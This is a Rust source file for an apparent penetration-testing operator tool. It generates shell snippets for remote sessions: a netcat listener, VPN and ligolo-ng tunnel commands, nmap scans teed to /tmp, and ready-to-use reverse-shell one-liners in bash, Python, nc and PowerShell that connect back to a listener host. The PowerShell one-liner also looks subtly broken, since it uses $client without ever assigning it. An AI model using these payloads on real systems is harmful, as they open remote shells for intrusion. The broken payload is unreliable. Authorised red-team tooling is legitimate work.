//! Command snippets and generators for the operator sidebar
//!
//! Everything here produces text that is injected into a session as input;
//! nothing runs locally. Templates may reference `{RHOST}` and `{LHOST}`,
//! filled from the engagement variables.

use opdeck_protocol::TermId;
use serde::Deserialize;

/// Engagement variables substituted into snippet templates
#[derive(Debug, Clone, Deserialize, PartialEq)]
pub struct Vars {
    #[serde(default = "default_host")]
    pub rhost: String,
    #[serde(default = "default_host")]
    pub lhost: String,
}

fn default_host() -> String {
    "127.0.0.1".to_string()
}

impl Default for Vars {
    fn default() -> Self {
        Self {
            rhost: default_host(),
            lhost: default_host(),
        }
    }
}

impl Vars {
    /// Substitute `{RHOST}` and `{LHOST}` placeholders
    pub fn expand(&self, template: &str) -> String {
        template
            .replace("{RHOST}", &self.rhost)
            .replace("{LHOST}", &self.lhost)
    }
}

/// A named snippet, as loaded from config
#[derive(Debug, Clone, Deserialize, PartialEq)]
pub struct Snippet {
    pub label: String,
    pub command: String,
}

/// Color of an in-surface system notice
#[derive(Debug, Clone, Copy)]
pub enum NoticeColor {
    Green,
    Yellow,
    Cyan,
}

impl NoticeColor {
    fn code(self) -> u8 {
        match self {
            NoticeColor::Green => 32,
            NoticeColor::Yellow => 33,
            NoticeColor::Cyan => 36,
        }
    }
}

/// Locally rendered status line, written to a surface but never sent
pub fn system_notice(color: NoticeColor, text: &str) -> String {
    format!("\r\n\x1b[{}m[System] {}\x1b[0m\r\n", color.code(), text)
}

/// Input line starting a netcat listener
pub fn netcat_listener(port: u16) -> String {
    format!("nc -lvnp {}\n", port)
}

/// Input line bringing up a VPN from a server-side config file
pub fn vpn_connect(config: &str) -> String {
    format!("sudo openvpn --config \"{}\"\n", config)
}

/// Input line starting the ligolo-ng proxy
pub fn ligolo_proxy() -> String {
    "sudo ligolo-proxy -selfcert\n".to_string()
}

/// Input line connecting a ligolo-ng agent back to the proxy
pub fn ligolo_agent(server: &str) -> String {
    format!("./agent -connect {} -ignore-cert\n", server)
}

/// Command for a new quick-ssh session; the session label is derived from it
pub fn quick_ssh(target: &str) -> String {
    format!("ssh {}", target)
}

/// Scan output file for one session
pub fn nmap_output_file(term_id: &TermId) -> String {
    format!("/tmp/nmap_scan_{}.txt", term_id)
}

/// Expanded scan command, teed to the per-session output file so the
/// collaborator can pick it up later
pub fn nmap_command(template: &str, vars: &Vars, term_id: &TermId) -> String {
    let cmd = vars.expand(template);
    format!("{} | tee {}\n", cmd, nmap_output_file(term_id))
}

/// Reverse shell flavor
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RevShell {
    Bash,
    Python,
    Nc,
    Powershell,
}

impl RevShell {
    pub const ALL: [RevShell; 4] = [
        RevShell::Bash,
        RevShell::Python,
        RevShell::Nc,
        RevShell::Powershell,
    ];

    pub fn name(self) -> &'static str {
        match self {
            RevShell::Bash => "bash",
            RevShell::Python => "python",
            RevShell::Nc => "nc",
            RevShell::Powershell => "powershell",
        }
    }

    /// One-liner connecting back to `lhost:port`
    pub fn payload(self, lhost: &str, port: u16) -> String {
        match self {
            RevShell::Bash => {
                format!("bash -i >& /dev/tcp/{}/{} 0>&1", lhost, port)
            }
            RevShell::Python => format!(
                "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{}\",{}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'",
                lhost, port
            ),
            RevShell::Nc => format!(
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {} {} >/tmp/f",
                lhost, port
            ),
            RevShell::Powershell => format!(
                "powershell -NoP -NonI -W Hidden -Exec Bypass -Command New-Object System.Net.Sockets.TCPClient(\"{}\",{});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + \"PS \" + (pwd).Path + \"> \";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()",
                lhost, port
            ),
        }
    }
}
